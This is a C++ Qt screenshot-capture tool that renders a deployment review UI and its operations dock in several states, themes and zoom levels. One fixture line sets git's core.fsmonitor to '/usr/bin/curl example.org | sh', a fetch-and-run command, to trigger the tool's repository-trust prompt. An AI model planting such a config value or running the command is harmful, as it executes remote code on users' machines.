// SPDX-License-Identifier: GPL-3.0-or-later
// usage: reviewpictures DIRECTORY [window]
// Draws the review and the operations in their states, light and dark, at 100 % and 200 %, over a
// real sample repository and a real local workspace.
#include "models/manifest/editsession.h"
#include "models/review/reviewcontroller.h"
#include "services/manifest/edit/manifestedit.h"
#include "tests/support/samplebench.h"
#include "tests/ui/review/reviewwindow.h"
#include "ui/review/reviewsheet.h"
#include "ui/theme/applicationtheme.h"

#include <QApplication>
#include <QDir>
#include <QScrollArea>
#include <QScrollBar>

using namespace serin;

namespace {

using Phase = ReviewState::Phase;

class Pictures
{
public:
    Pictures(QApplication &application, QString directory)
        : m_theme(application, SchemePreference::Light), m_font(QApplication::font()),
          m_directory(std::move(directory))
    {}

    void take(QWidget &widget, const QString &name, QSize lines)
    {
        for (const auto &[scheme, word] :
             {std::pair(SchemePreference::Light, "light"), {SchemePreference::Dark, "dark"}}) {
            for (const int zoom : {100, 200}) {
                QFont font = m_font;
                font.setPointSizeF(m_font.pointSizeF() * zoom / 100);
                QApplication::setFont(font);
                m_theme.setPreference(scheme);
                const Spacing space = Spacing::forFont(QApplication::font());
                widget.resize(space.l * lines.width(),
                              zoom == 100 ? space.l * lines.height() : 900);
                widget.show();
                QTest::qWait(50);
                widget.grab().save(QStringLiteral("%1/%2-%3-%4.png")
                                       .arg(m_directory, name, QLatin1String(word))
                                       .arg(zoom));
            }
        }
    }

private:
    ApplicationTheme m_theme;
    const QFont m_font;
    const QString m_directory;
};

bool wait(const std::function<bool()> &fact)
{
    return QTest::qWaitFor(fact, 60'000);
}

/// The whole window with the review and the operations, as small as it may be.
void takeWindow(const QString &directory)
{
    ReviewWindow w(QStringLiteral(SERINCTL));
    if (const QString wrong = w.make(true); !wrong.isEmpty()) {
        qFatal("%s", qPrintable(wrong));
    }
    w.open();
    w.startWorkspace();
    w.review().open();
    w.isReady();
    w.confirm();
    w.review().close();
    w.drag(-10);
    for (const int zoom : {100, 200}) {
        for (const char *theme : {"light", "dark"}) {
            w.workbench().preferences().setZoom(zoom);
            w.close();
            w.open();
            w.startWorkspace();
            w.window().resize(1280, 800);
            w.window().actions().action(QStringLiteral("theme.") + QLatin1String(theme))->trigger();
            const auto save = [&](const char *name) {
                QTest::qWait(100);
                w.window().grab().save(
                    QStringLiteral("%1/%2-%3-%4.png")
                        .arg(directory, QLatin1String(name), QLatin1String(theme))
                        .arg(zoom));
            };
            w.openReview();
            save("window-review");
            if (w.window().width() > 1280 || w.window().height() > 800) {
                qWarning() << "wider or higher than its screen:" << w.window().size();
            }
            w.click("sideBySideButton");
            save("window-sidebyside");
            w.click("sideBySideButton");
            for (QScrollArea *area : w.named("reviewSheet")->findChildren<QScrollArea *>()) {
                area->verticalScrollBar()->setValue(area->verticalScrollBar()->maximum());
            }
            save("window-reviewend");
            w.workbench().invoke().setTarget(QStringLiteral("green"));
            w.workbench().invoke().send();
            wait([&w] { return !w.workbench().invoke().isSending(); });
            OperationSpec spec;
            spec.title = QStringLiteral("Push to origin/main");
            spec.command = QStringLiteral("git push origin main");
            spec.retry = [] {};
            OperationsModel &operations = w.bench().operations();
            operations.fail(operations.begin(spec),
                            {ErrorKind::Unavailable, QStringLiteral("the remote cannot be reached"),
                             QStringLiteral("fatal: unable to access 'http://127.0.0.1:1/'"),
                             QStringLiteral("push again when it is back")});
            spec.title = QStringLiteral("my-endpoint: traffic blue 100 → 90 %, green 0 → 10 %");
            spec.stop = [] {};
            operations.setProgress(operations.begin(spec), QStringLiteral("Updating"));
            w.click("operationsButton");
            save("window-dock");
            w.review().close();
            save("window-dockalone");
        }
    }
}

} // namespace

int main(int argc, char **argv)
{
    QApplication application(argc, argv);
    const QString directory = application.arguments().value(1, QStringLiteral("."));
    QDir().mkpath(directory);
    if (application.arguments().value(2) == QLatin1String("window")) {
        takeWindow(directory);
        return 0;
    }
    Pictures pictures(application, directory);
    SampleBench bench(QStringLiteral(SERINCTL));
    if (const QString wrong = bench.setUp(); !wrong.isEmpty()) {
        qFatal("%s", qPrintable(wrong));
    }
    EditSession session;
    ReviewController review(*bench.project, session, bench.operations,
                            bench.folder() + QStringLiteral("/drafts"));
    ReviewSheet sheet(review);
    const auto open = [&] {
        review.open();
        return wait(
            [&] { return review.state().phase == Phase::Ready && review.content().isComplete; });
    };
    open();
    pictures.take(sheet, QStringLiteral("review-first"), {32, 46});
    const QString blue = bench.path(QStringLiteral("blue-deployment.yml"));
    session.open(blue);
    wait([&] { return session.buffer(blue) != nullptr; });
    session.edit(blue, QStringLiteral("scale"), [](const Manifest &manifest) {
        return withInstanceCount(manifest, {}, QStringLiteral("blue"), 2);
    });
    QByteArray green = bench.read(QStringLiteral("blue-deployment.yml"));
    green.replace("name: blue", "name: green").replace("model-1", "model-2");
    bench.write(QStringLiteral("green-deployment.yml"), green);
    wait([&] { return !session.isBusy(); });
    review.close();
    open();
    pictures.take(sheet, QStringLiteral("review-ready"), {32, 60});
    for (const ReviewConsent &question : std::vector(review.state().questions)) {
        review.setConsent(question.id, true);
    }
    QDir().rename(bench.remote, bench.remote + QStringLiteral(".away"));
    review.confirm();
    wait([&] { return review.state().phase == Phase::Ended; });
    pictures.take(sheet, QStringLiteral("review-pushfailed"), {32, 46});
    QDir().rename(bench.remote + QStringLiteral(".away"), bench.remote);
    review.take(ReviewWay::TryAgain);
    wait([&] { return review.state().phase == Phase::Ended && review.run()->isDone(); });
    pictures.take(sheet, QStringLiteral("review-done"), {32, 46});
    review.close();
    QFile::remove(bench.path(QStringLiteral("green-deployment.yml")));
    bench.gitSays({QStringLiteral("config"), QStringLiteral("core.fsmonitor"),
                   QStringLiteral("/usr/bin/curl example.org | sh")});
    bench.project->refresh();
    wait([&] { return !bench.project->trustQuestion().isEmpty(); });
    review.open();
    pictures.take(sheet, QStringLiteral("review-trust"), {32, 30});
    review.trust();
    wait([&] { return review.state().phase == Phase::Ready && review.content().isComplete; });
    pictures.take(sheet, QStringLiteral("review-delete"), {32, 50});
    return 0;
}
